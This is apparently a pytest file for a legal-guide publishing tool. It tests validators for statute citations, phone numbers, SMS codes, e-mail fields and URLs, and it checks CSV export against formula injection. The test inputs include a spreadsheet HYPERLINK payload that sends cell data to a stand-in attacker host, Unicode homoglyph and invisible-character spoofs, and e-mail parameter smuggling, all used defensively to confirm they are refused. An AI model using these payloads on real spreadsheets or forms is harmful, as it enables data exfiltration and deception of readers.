"""Field validators by kind: text safety by Unicode property, citation grammar, phones, SMS codes, e-mail and
URLs. Each class of attack is refused with the file, line, field, code point and position; each class has a
legitimate neighbour that still passes (accented Spanish citations, extensions, example.org addresses)."""

import pytest
from test_validate import problems_for

from ecmguide.core import contacts
from ecmguide.core.textsafety import unsafe_character

FACT = """\
victims_rights:
  status: in_force
  citation: {citation}
  summary: {summary}
  source_url: "https://statutes.capitol.texas.gov/"
  checked_against: official_text
  last_reviewed: 2026-11-01
  confidence: high
"""


def overlay_problems(project_factory, citation='"Tex. Fam. Code § 261.101"', summary='"Every person must report."'):
    text = "code: tx\nname: Texas\nkind: state\n" + FACT.format(citation=citation, summary=summary)
    return [p for p in problems_for(project_factory, text) if "warning" not in p]


@pytest.mark.parametrize(
    "char,name",
    [
        ("\u3164", "HANGUL FILLER"),
        ("\u115f", "HANGUL CHOSEONG FILLER"),
        ("\ufe0f", "VARIATION SELECTOR-16"),
        ("\U000e0041", "TAG LATIN CAPITAL LETTER A"),
        ("\u200b", "ZERO WIDTH SPACE"),
        ("\u034f", "COMBINING GRAPHEME JOINER"),
        ("\u2066", "LEFT-TO-RIGHT ISOLATE"),
        ("\u00ad", "SOFT HYPHEN"),
    ],
)
def test_default_ignorable_characters_are_refused_whatever_their_category(char, name):
    found = unsafe_character(f"Every{char} person")
    assert found is not None and found[0] == 5 and found[1].startswith(f"U+{ord(char):04X} {name}")


def test_a_mark_that_follows_no_letter_and_stacked_marks_are_refused():
    assert unsafe_character("§ 1035\u0301.8")[1].startswith("U+0301 COMBINING ACUTE ACCENT (a combining mark")
    assert unsafe_character("\u0301abc")[0] == 0
    assert unsafe_character("e\u0301\u0302\u0303")[0] == 3  # two marks on a letter pass, the third does not


def test_text_must_be_composed_nfc():
    decomposed = "Ley Nu\u0301m. 54"
    index, what = unsafe_character(decomposed)
    assert index == 5 and "normal form C" in what
    assert unsafe_character("Ley Núm. 54 de 15 de agosto de 1989, según enmendada") is None


def test_an_invisible_mark_in_a_section_number_is_refused_with_its_position(project_factory):
    problems = overlay_problems(project_factory, citation='"Tex. Fam. Code § 261.1\u0301\u0301\u0301 01"')
    assert len(problems) == 1 and problems[0].startswith("overlays/tx.yml:6: victims_rights.citation: contains U+0301")


@pytest.mark.parametrize(
    "citation,position,char",
    [
        ("Tex. Fam. Code § 261.１01", 22, "U+FF11"),  # a fullwidth digit looks like 1
        ("Tex. Fam. Code § 261.1О1", 23, "U+041E"),  # a Cyrillic O in the section number
        ("Тех. Fam. Code § 261.101", 1, "U+0422"),  # Cyrillic letters in the code's name
    ],
)
def test_citations_are_latin_text_with_ascii_section_numbers(project_factory, citation, position, char):
    problems = overlay_problems(project_factory, citation=f'"{citation}"')
    assert len(problems) == 1, problems
    assert f"{char}" in problems[0] and f"character {position}" in problems[0], problems[0]


@pytest.mark.parametrize(
    "citation",
    [
        "Cal. Evid. Code §§ 1035-1036.2",
        "Wis. Const. art. I, § 9m",
        "Fla. Stat. §§ 741.401–741.409",
        "24 L.P.R.A. § 6153q (Ley Núm. 408 de 2 de octubre de 2000)",
        "Tex. R. Evid. 503(b)(1)",
        "Mass. Gen. Laws ch. 233, § 20K",
        "D.C. Code § 14-307(b)(5)",
        "W. Va. Code § 49-2-803",
    ],
)
def test_real_citations_pass(project_factory, citation):
    assert overlay_problems(project_factory, citation=f'"{citation}"') == []


@pytest.mark.parametrize(
    "value,uri",
    [
        ("(877) 322-5227", "tel:+18773225227"),
        ("800.563.6399", "tel:+18005636399"),
        ("+1 888 373 7888", "tel:+18883737888"),
        ("808-587-5054 ext. 12", "tel:+18085875054;ext=12"),
        ("(787) 721-7676", "tel:+17877217676"),
    ],
)
def test_phones_become_e164_tel_links(value, uri):
    assert contacts.tel_uri(value) == uri


@pytest.mark.parametrize(
    "value,why",
    [
        ("1-800-FLOWERS", "has letters"),
        ("555-0100", "is not a dialable phone number"),
        ("555-0100 (placeholder)", "has letters"),
        ("911; tel:+1900", "has letters"),
        ("1" * 41, "characters"),
    ],
)
def test_bad_phones_are_refused_with_the_fix(value, why):
    with pytest.raises(contacts.ContactError, match=why):
        contacts.parse_phone(value)


def test_sms_short_codes_are_digits_only():
    assert contacts.sms_uri("233733") == "sms:233733"
    for bad in ("BeFree", "2337-33", "233733?body=x"):
        with pytest.raises(contacts.ContactError):
            contacts.check_short_code(bad)


@pytest.mark.parametrize(
    "value",
    [
        "a@example.org?cc=b@example.org&bcc=c@example.org&body=hi",
        "a@example.org,b@example.org",
        "mailto:a@example.org",
        "a@b",
    ],
)
def test_an_email_field_is_exactly_one_address(value):
    with pytest.raises(contacts.ContactError, match="is not an e-mail address"):
        contacts.check_email(value)


def manifest_problems(project_factory, body: str):
    project = project_factory(editions={"ca-x": "code: ca-x\noverlays: [us, ca]\n" + body})
    return [str(p) for p in project.validate([project.jurisdictions_dir / "ca-x.yml"]) if "warning" not in str(p)]


def test_manifest_contacts_and_addresses_are_checked_by_kind(project_factory):
    problems = manifest_problems(
        project_factory,
        (
            'site_url: "http://example.org/ca-x/"\n'
            'task_force:\n  name: "T"\n  coordinator:\n    name: "C"\n'
            '    email: "c@example.org?bcc=x@example.org"\n    phone: "1-800-FLOWERS"\n'
            '  hotlines:\n    - {label: "Line", number: "(916) 555-0101", sms: "Text us"}\n'
            f'links:\n  mou: "https://example.org/{"x" * 2000}"\n'
        ),
    )
    fields = [p.split(": ")[1] for p in problems]
    assert fields == [
        "site_url",
        "task_force.coordinator.email",
        "task_force.coordinator.phone",
        "task_force.hotlines[0].sms",
        "links.mou",
    ], problems
    assert "is not https; readers are sent here" in problems[0]
    assert "the limit is 2000" in problems[4]


def test_every_field_kind_in_the_schema_has_a_validator_and_a_reference_entry():
    from ecmguide.law import fieldref, schema

    kinds = set()

    def walk(fields):
        for f in fields:
            kinds.add(f.kind)
            walk(f.fields or ())

    walk(schema.FACT_FIELDS + schema.OVERLAY_TOP + schema.MANIFEST + tuple(x for s in schema.SLOTS for x in s.extra))
    documented = {k.strip() for key in fieldref.kind_docs() for k in key.split(",")}
    assert {"citation", "phone", "email", "https"} <= kinds
    assert (
        kinds
        - {"record", "records", "enum", "bool", "tristate", "date", "code", "codes", "color", "strs", "urls", "path"}
        <= documented
    )


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "|", "%"])
def test_open_data_csv_cells_never_start_a_formula(project_factory, start):
    """A summary that would start a spreadsheet formula is written with a leading apostrophe in facts.csv;
    the JSON keeps it exactly."""
    import csv
    import io
    import json

    from ecmguide.outputs.hub import opendata

    summary = f'{start}HYPERLINK("https://evil.example/?x="&A1,"Click") and then the law'
    text = "code: tx\nname: Texas\nkind: state\n" + FACT.format(
        citation='"Tex. Fam. Code § 261.101"', summary=json.dumps(summary)
    )
    project = project_factory(overlays={"tx": text}, copy_overlays=("us",), copy_editions=("us",))
    files = opendata.build_files(project, with_history=False)
    rows = [r for r in csv.DictReader(io.StringIO(files["facts.csv"])) if r["id"] == "tx.victims_rights"]
    assert rows[0]["summary"] == "'" + summary.replace("|", "\\|")
    facts = json.loads(files["tx.json"])["facts"]
    assert next(f for f in facts if f["id"] == "tx.victims_rights")["summary"] == summary


@pytest.mark.parametrize(
    "length,message",
    [
        (
            3000,
            "is a web address of 3021 characters; the limit is 2000: link the page itself, without tracking or search "
            "parameters",
        ),
        (
            300,
            "is 321 characters; an edition's address is printed as a QR code on every handout, readable on paper up to "
            "200 characters: use a shorter one",
        ),
    ],
)
def test_a_site_address_too_long_for_a_printed_qr_code_is_refused_by_name(project_factory, length, message):
    problems = manifest_problems(project_factory, f'site_url: "https://example.org/{"a" * length}/"\n')
    assert problems == [f"jurisdictions/ca-x.yml:3: site_url: {message}"]


def test_every_kind_a_field_uses_checks_documents_and_exports_itself():
    """One table (law/kinds.py): a kind in use has its check and editor schema; a kind a fact may hold has its
    open-data type and codebook values."""
    from ecmguide.law import schema
    from ecmguide.law.kinds import KINDS

    def walk(fields):
        for f in fields:
            yield f
            yield from walk(f.fields or ())

    every = list(
        walk(
            schema.FACT_FIELDS
            + schema.OVERLAY_TOP
            + schema.MANIFEST
            + schema.NATIONAL_CONTACT
            + tuple(x for s in schema.SLOTS for x in s.extra)
        )
    )
    for f in every:
        kind = KINDS[f.kind]
        if f.kind not in ("record", "records"):
            assert kind.check is not None, f.kind
            assert kind.editor is not None or f.kind == "enum", f.kind
    for f in walk(schema.FACT_FIELDS + tuple(x for s in schema.SLOTS for x in s.extra)):
        if f.kind not in ("record", "records", "enum"):
            assert KINDS[f.kind].export is not None, f"{f.name}: kind {f.kind} has no open-data type"
